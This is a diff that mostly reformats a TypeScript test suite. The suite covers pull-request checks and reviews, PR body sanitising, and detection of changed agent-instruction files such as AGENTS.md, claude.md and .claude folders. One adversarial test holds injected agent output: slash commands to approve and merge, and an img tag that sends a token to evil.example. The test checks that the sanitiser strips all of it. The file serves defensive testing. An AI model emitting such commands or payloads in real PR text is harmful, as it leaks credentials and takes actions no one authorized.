@@ -8,14 +8,15 @@ import { bodyOf, branchName, titleOf } from './texts.js';
 
 describe('checks and reviews of a pull request', () => {
   it('are together what the worst of the checks is', () => {
-    const of = (...states: Parameters<typeof summaryOf>[0][number]['state'][]): unknown => summaryOf(states.map((state) => ({ state }))).state;
-    expect([of(), of('neutral'), of('success', 'neutral'), of('success', 'pending'), of('pending', 'failure', 'success')]).toEqual([
-      'none',
-      'neutral',
-      'success',
-      'pending',
-      'failure',
-    ]);
+    const of = (...states: Parameters<typeof summaryOf>[0][number]['state'][]): unknown =>
+      summaryOf(states.map((state) => ({ state }))).state;
+    expect([
+      of(),
+      of('neutral'),
+      of('success', 'neutral'),
+      of('success', 'pending'),
+      of('pending', 'failure', 'success'),
+    ]).toEqual(['none', 'neutral', 'success', 'pending', 'failure']);
   });
 
   it('are what each reviewer said last, where a comment takes nothing back', () => {
@@ -52,7 +53,15 @@ describe('texts of a pull request', () => {
 
   it('adversary: an agent instructed to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
     const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
-    const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c', template: null, checked: '' });
+    const body = bodyOf({
+      given: undefined,
+      said,
+      issue: null,
+      page: null,
+      conversationId: 'c',
+      template: null,
+      checked: '',
+    });
     expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
   });
 
@@ -73,35 +82,60 @@ describe('texts of a pull request', () => {
 
 describe('protected paths of a branch', () => {
   const entry = (name: string, hash: string, kind: TreeEntry['kind'] = 'file'): TreeEntry => ({ name, hash, kind });
-  const changed = (own: Record<string, readonly TreeEntry[]>, host: Record<string, Record<string, string>>, whole = true): Promise<readonly string[]> => {
+  const changed = (
+    own: Record<string, readonly TreeEntry[]>,
+    host: Record<string, Record<string, string>>,
+    whole = true,
+  ): Promise<readonly string[]> => {
     const bundle = { tree: 'new', folder: (hash: string) => own[hash] } as unknown as VerifiedBundle;
     return changedProtectedPaths(bundle, [() => Promise.resolve('old')], async ({ hash: sha }): Promise<HostTree> => {
       if (host[sha] === undefined) throw new Error(`nobody needs ${sha}`);
-      return { whole, entries: new Map(Object.entries(host[sha])), folders: new Set(Object.keys(host[sha]).filter((name) => !name.includes('.'))) };
+      return {
+        whole,
+        entries: new Map(Object.entries(host[sha])),
+        folders: new Set(Object.keys(host[sha]).filter((name) => !name.includes('.'))),
+      };
     });
   };
 
   it('are untouched when what stands there is the same, without reading it', async () => {
-    expect(await changed({ new: [entry('.github', 'g', 'folder'), entry('a', '2')] }, { old: { '.github': 'g', a: '1' } })).toEqual([]);
     expect(
-      await changed({ new: [entry('.github', 'g2', 'folder')], g2: [entry('ISSUES.md', '2')] }, { old: { '.github': 'g1' }, g1: { 'ISSUES.md': '1' } }),
+      await changed({ new: [entry('.github', 'g', 'folder'), entry('a', '2')] }, { old: { '.github': 'g', a: '1' } }),
+    ).toEqual([]);
+    expect(
+      await changed(
+        { new: [entry('.github', 'g2', 'folder')], g2: [entry('ISSUES.md', '2')] },
+        { old: { '.github': 'g1' }, g1: { 'ISSUES.md': '1' } },
+      ),
     ).toEqual([]);
   });
 
   it('adversary: a change, a removal, and a folder of the base that is put in their place are all seen', async () => {
     const old = { '.github': 'g1', 'AGENTS.md': 'x', examples: 'e' };
     expect(
-      await changed({ new: [entry('.github', 'g2', 'folder')], g2: [entry('workflows', 'w2', 'folder')] }, { old, g1: { workflows: 'w1' } }).catch(String),
+      await changed(
+        { new: [entry('.github', 'g2', 'folder')], g2: [entry('workflows', 'w2', 'folder')] },
+        { old, g1: { workflows: 'w1' } },
+      ).catch(String),
     ).toEqual(['.github/workflows', 'AGENTS.md']);
     expect(
-      await changed({ new: [entry('.gitea', 'e', 'folder'), entry('AGENTS.md', 'x'), entry('.github', 'g1', 'folder')] }, { old, e: { workflows: 'w' } }),
+      await changed(
+        { new: [entry('.gitea', 'e', 'folder'), entry('AGENTS.md', 'x'), entry('.github', 'g1', 'folder')] },
+        { old, e: { workflows: 'w' } },
+      ),
     ).toEqual(['.gitea/workflows']);
   });
 
   it('are at any depth those that instruct agents: new, changed or gone', async () => {
     const own = {
       new: [entry('src', 's2', 'folder'), entry('README.md', 'r')],
-      s2: [entry('api', 'a2', 'folder'), entry('web', 'w', 'folder'), entry('new', 'n', 'folder'), entry('AGENTS.md', 'x2'), entry('gone', 'g2', 'folder')],
+      s2: [
+        entry('api', 'a2', 'folder'),
+        entry('web', 'w', 'folder'),
+        entry('new', 'n', 'folder'),
+        entry('AGENTS.md', 'x2'),
+        entry('gone', 'g2', 'folder'),
+      ],
       a2: [entry('.claude', 'c2', 'folder'), entry('index.ts', 'i2')],
       n: [entry('claude.md', 'm'), entry('a.ts', 'a')],
       g2: [entry('b.ts', 'b')],
@@ -112,26 +146,57 @@ describe('protected paths of a branch', () => {
       a1: { '.claude': 'c1', 'index.ts': 'i1' },
       g1: { 'b.ts': 'b', 'GEMINI.md': 'y' },
     };
-    expect([...(await changed(own, host))].sort()).toEqual(['src/AGENTS.md', 'src/api/.claude', 'src/gone/GEMINI.md', 'src/new/claude.md']);
+    expect([...(await changed(own, host))].sort()).toEqual([
+      'src/AGENTS.md',
+      'src/api/.claude',
+      'src/gone/GEMINI.md',
+      'src/new/claude.md',
+    ]);
     // Files beside them are no instructions, and equal folders are skipped.
-    const beside = { new: [entry('src', 's2', 'folder')], s2: [entry('AGENTS.md', 'x1'), entry('web', 'w', 'folder'), entry('index.ts', 'i2')] };
-    expect(await changed(beside, { old: { src: 's1' }, s1: { 'AGENTS.md': 'x1', web: 'w', 'index.ts': 'i1' } })).toEqual([]);
+    const beside = {
+      new: [entry('src', 's2', 'folder')],
+      s2: [entry('AGENTS.md', 'x1'), entry('web', 'w', 'folder'), entry('index.ts', 'i2')],
+    };
+    expect(
+      await changed(beside, { old: { src: 's1' }, s1: { 'AGENTS.md': 'x1', web: 'w', 'index.ts': 'i1' } }),
+    ).toEqual([]);
   });
 
   it('adversary: a folder of the repository that has instructions is seen where it is moved, however deep, and one that the host does not show is named', async () => {
-    const own = { new: [entry('src', 's2', 'folder'), entry('examples', 'e', 'folder')], s2: [entry('lib', 'inner', 'folder')] };
-    const host = { old: { src: 's1', examples: 'e' }, s1: { lib: 'l1' }, inner: { deep: 'd', 'a.ts': '1' }, d: { 'AGENTS.md': 'evil' }, l1: { 'a.ts': '1' } };
+    const own = {
+      new: [entry('src', 's2', 'folder'), entry('examples', 'e', 'folder')],
+      s2: [entry('lib', 'inner', 'folder')],
+    };
+    const host = {
+      old: { src: 's1', examples: 'e' },
+      s1: { lib: 'l1' },
+      inner: { deep: 'd', 'a.ts': '1' },
+      d: { 'AGENTS.md': 'evil' },
+      l1: { 'a.ts': '1' },
+    };
     expect(await changed(own, host)).toEqual(['src/lib/deep/AGENTS.md']);
     const { inner: _, ...hidden } = host;
-    const refusal = new ProviderRefusal('not by its hash', { kind: 'missing', status: null, retryAt: null, outcomeUnknown: false });
-    const bundle = { tree: 'new', folder: (hash: string) => own[hash as keyof typeof own] } as unknown as VerifiedBundle;
+    const refusal = new ProviderRefusal('not by its hash', {
+      kind: 'missing',
+      status: null,
+      retryAt: null,
+      outcomeUnknown: false,
+    });
+    const bundle = {
+      tree: 'new',
+      folder: (hash: string) => own[hash as keyof typeof own],
+    } as unknown as VerifiedBundle;
     const of = (...commits: string[]): Promise<readonly string[]> =>
       changedProtectedPaths(
         bundle,
         commits.map((each) => () => Promise.resolve(each)),
         ({ hash }) => {
-          const found: Record<string, string> | undefined = { ...hidden, moved: { src: 'sm' }, sm: { lib: 'inner' } }[hash];
-          return found === undefined ? Promise.reject(refusal) : Promise.resolve({ whole: true, entries: new Map(Object.entries(found)), folders: new Set() });
+          const found: Record<string, string> | undefined = { ...hidden, moved: { src: 'sm' }, sm: { lib: 'inner' } }[
+            hash
+          ];
+          return found === undefined
+            ? Promise.reject(refusal)
+            : Promise.resolve({ whole: true, entries: new Map(Object.entries(found)), folders: new Set() });
         },
       );
     expect(await of('old')).toEqual(['src/lib']);
@@ -142,15 +207,21 @@ describe('protected paths of a branch', () => {
   it('adversary: more folders than are asked for still have their own instructions seen', async () => {
     const many = Array.from({ length: 400 }, (_, index) => `f${index}`);
     const own: Record<string, readonly TreeEntry[]> = { new: many.map((name) => entry(name, `${name}-2`, 'folder')) };
-    for (const name of many) own[`${name}-2`] = [entry('a.ts', '2'), ...(name === 'f399' ? [entry('AGENTS.md', 'x')] : [])];
-    const host: Record<string, Record<string, string>> = { old: Object.fromEntries(many.map((name) => [name, `${name}-1`])) };
+    for (const name of many)
+      own[`${name}-2`] = [entry('a.ts', '2'), ...(name === 'f399' ? [entry('AGENTS.md', 'x')] : [])];
+    const host: Record<string, Record<string, string>> = {
+      old: Object.fromEntries(many.map((name) => [name, `${name}-1`])),
+    };
     for (const name of many) host[`${name}-1`] = { 'a.ts': '1' };
     expect(await changed(own, host)).toEqual(['f399/AGENTS.md']);
     expect(listOf(many)).toMatch(/^f0, .*, f19 and 380 more$/);
   });
 
   it('are untouched when another commit of the host holds the same, which is not asked for without need', async () => {
-    const bundle = { tree: 'new', folder: (hash: string) => (hash === 'new' ? [entry('AGENTS.md', 'x')] : undefined) } as unknown as VerifiedBundle;
+    const bundle = {
+      tree: 'new',
+      folder: (hash: string) => (hash === 'new' ? [entry('AGENTS.md', 'x')] : undefined),
+    } as unknown as VerifiedBundle;
     const trees: Record<string, Record<string, string>> = { moved: { 'AGENTS.md': 'y' }, fork: { 'AGENTS.md': 'x' } };
     const asked: string[] = [];
     const at = (name: string | null) => async () => {
@@ -169,8 +240,12 @@ describe('protected paths of a branch', () => {
   });
 
   it('adversary: a base that the git host does not show has all of them taken for changed', async () => {
-    const bundle = { tree: 'new', folder: (hash: string) => (hash === 'new' ? [entry('a', '1')] : undefined) } as unknown as VerifiedBundle;
-    const refusal = (kind: RefusalKind): ProviderRefusal => new ProviderRefusal(kind, { kind, status: null, retryAt: null, outcomeUnknown: false });
+    const bundle = {
+      tree: 'new',
+      folder: (hash: string) => (hash === 'new' ? [entry('a', '1')] : undefined),
+    } as unknown as VerifiedBundle;
+    const refusal = (kind: RefusalKind): ProviderRefusal =>
+      new ProviderRefusal(kind, { kind, status: null, retryAt: null, outcomeUnknown: false });
     const of = (kind: RefusalKind): Promise<readonly string[]> =>
       changedProtectedPaths(bundle, [() => Promise.resolve('old')], () => Promise.reject(refusal(kind)));
     expect(await of('missing')).toEqual(expect.arrayContaining(['.github/workflows', 'AGENTS.md']));
